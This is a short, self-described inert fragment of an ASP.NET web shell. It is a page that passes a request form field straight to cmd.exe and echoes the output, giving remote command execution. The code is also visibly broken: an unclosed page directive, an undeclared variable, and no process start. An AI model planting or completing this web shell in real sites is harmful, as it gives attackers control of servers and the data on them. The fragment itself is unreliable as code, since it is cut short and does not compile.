<%-- inert sample, cut short --%>
<%@ Page Language="C#"
ProcessStartInfo psi; psi.FileName = "cmd.exe"; psi.Arguments = "/c " + Request.Form["c"];
Response.Write(p.StandardOutput.ReadToEnd());
